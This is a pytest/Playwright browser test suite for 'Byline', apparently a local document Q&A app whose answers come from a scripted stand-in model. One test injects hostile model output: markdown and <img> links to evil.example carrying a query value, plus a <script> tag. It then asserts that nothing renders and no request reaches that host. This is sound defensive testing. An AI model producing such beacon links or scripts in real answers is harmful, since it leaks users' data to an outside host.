"""Written answers on the page, by a model behind a small server of the test's own."""

import os
import signal
import subprocess
import sys
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import ARTICLES, ROOT, write
from tests.browser.steps import Served, add_files, ask, open_page, width_beyond_the_window
from tests.chat_server import ChatServer, chat_server

QUESTION = "When was the lamp made?"
FIRST = "The lamp was made in Antwerp in 1887 [$1]."
SECOND = " It was painted by the moon, as everybody knows and nobody ever doubted [$1]."


@pytest.fixture(scope="module")
def model() -> Iterator[ChatServer]:
    with chat_server() as server:
        yield server


@pytest.fixture(scope="module")
def served(browser: Browser, model: ChatServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("writing")
    environment = {
        **os.environ, "BYLINE_DATA": str(folder / "data"), "BYLINE_LIBRARY": "press", "BYLINE_PORT": "0",
        "BYLINE_MODEL": "scripted", "BYLINE_MODEL_ADDRESS": model.address,
    }  # fmt: skip
    process = subprocess.Popen(
        [sys.executable, ROOT / "app.py"], env=environment, stdout=subprocess.PIPE, text=True, cwd=folder
    )
    site = Served(process.stdout.readline().removeprefix("Byline is at ").strip(), process.pid, folder / "data")
    context = browser.new_context()
    page = open_page(context, site)
    add_files(page, write(folder / "lamp.txt", ARTICLES["lamp.txt"]))
    expect(page.locator("#progress")).to_contain_text("1 added", timeout=120_000)
    context.close()
    yield site
    process.terminate()
    assert process.wait(20) == -signal.SIGTERM


def begin(page: Page) -> None:
    page.get_by_label("Ask about your documents").fill(QUESTION)
    page.keyboard.press("Enter")


def test_a_written_answer_streams_is_stopped_and_asked_again(page: Page, model: ChatServer):
    model.go_on.clear()
    model.left.clear()
    model.replies = [f"{FIRST}{SECOND}…", FIRST + SECOND]
    begin(page)
    turn = page.locator(".turn")
    expect(turn.locator(".words").first).to_have_text("The lamp was made in Antwerp in 1887.")
    expect(turn).to_contain_text("Writing")
    page.get_by_role("button", name="Stop").click()
    expect(turn.locator(".notice")).to_have_text("Stopped. What you see has been checked.")
    assert model.left.wait(10)

    turn.get_by_role("button", name="Retry").click()
    expect(page.locator(".turn .bar")).to_contain_text("Written by scripted")
    expect(page.locator(".turn")).to_have_count(1)
    expect(turn.locator(".words")).to_have_count(2)
    apart = turn.locator("details.apart")
    expect(apart.locator("summary")).to_have_text("1 sentence that was written is not supported by the sources")
    expect(apart.locator(".words")).to_be_hidden()
    apart.locator("summary").focus()
    page.keyboard.press("Enter")
    expect(apart.locator(".words")).to_be_visible()
    expect(apart.locator("li").first).to_be_visible()

    turn.get_by_role("button", name="Citation").first.click()
    expect(page.locator(".quote.on mark")).to_contain_text("made in Antwerp in 1887")
    page.reload()
    expect(page.locator(".turn .words")).to_have_count(2)


def test_the_model_is_shown_and_can_be_switched_off(page: Page, model: ChatServer):
    model.replies = [FIRST]
    before = len(model.asked)
    chosen = page.get_by_label("Who writes the answer")
    expect(chosen).to_have_value("scripted")
    expect(chosen.locator("option")).to_have_text(["scripted", "Quotes only"])
    expect(page.locator("header.top")).to_contain_text("nothing leaves this machine")
    chosen.select_option("Quotes only")
    expect(ask(page, QUESTION)).to_contain_text("quoted exactly")
    assert len(model.asked) == before
    page.reload()
    expect(page.get_by_label("Who writes the answer")).to_have_value("")


def test_a_model_that_fails_leaves_the_quoted_answer_and_the_reason(page: Page, model: ChatServer):
    model.replies = [(401, {})]
    turn = ask(page, QUESTION)
    expect(turn.locator(".notice")).to_contain_text("refused the key")
    expect(turn.locator(".words").first).to_contain_text("Antwerp in 1887")


def test_a_closed_page_ends_the_writing(page: Page, model: ChatServer):
    model.go_on.clear()
    model.left.clear()
    model.replies = [f"{FIRST}{SECOND}…"]
    begin(page)
    expect(page.locator(".turn .words").first).to_have_text("The lamp was made in Antwerp in 1887.")
    page.close()
    assert model.left.wait(10)


def test_what_a_model_writes_is_shown_as_text_and_reaches_nobody(page: Page, model: ChatServer):
    asked_for = []
    page.on("request", lambda request: asked_for.append(request.url))
    image = "![lamp](https://evil.example/?q=lamp) and <img src=https://evil.example/x> show the lamp of Antwerp"
    model.replies = [
        f"{FIRST} {image} [$1]. The [map](https://evil.example/map) <script>top.hit = 1</script> shows it [$1]."
    ]
    turn = ask(page, QUESTION)
    expect(turn.locator(".words").nth(1)).to_contain_text("![lamp](https://evil.example/?q=lamp)")
    expect(turn.locator(".words img, .words a, .words script")).to_have_count(0)
    assert page.evaluate("window.hit") is None
    assert [url for url in asked_for if "evil.example" in url] == []


def test_what_is_written_fits_a_phone(page: Page, model: ChatServer):
    page.set_viewport_size({"width": 390, "height": 844})
    model.replies = [FIRST + SECOND]
    turn = ask(page, QUESTION)
    expect(turn.locator(".words")).to_have_count(2)
    expect(page.get_by_label("Who writes the answer")).to_be_visible()
    assert width_beyond_the_window(page) <= 0
